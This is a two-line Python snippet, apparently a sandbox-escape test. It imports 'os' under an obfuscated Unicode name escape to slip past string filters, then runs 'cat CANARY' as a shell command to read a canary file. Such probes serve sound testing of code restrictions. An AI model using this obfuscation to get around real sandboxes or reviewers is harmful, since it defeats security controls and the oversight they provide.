tool = __import__("\N{LATIN SMALL LETTER O}s")
tool.system("cat CANARY")
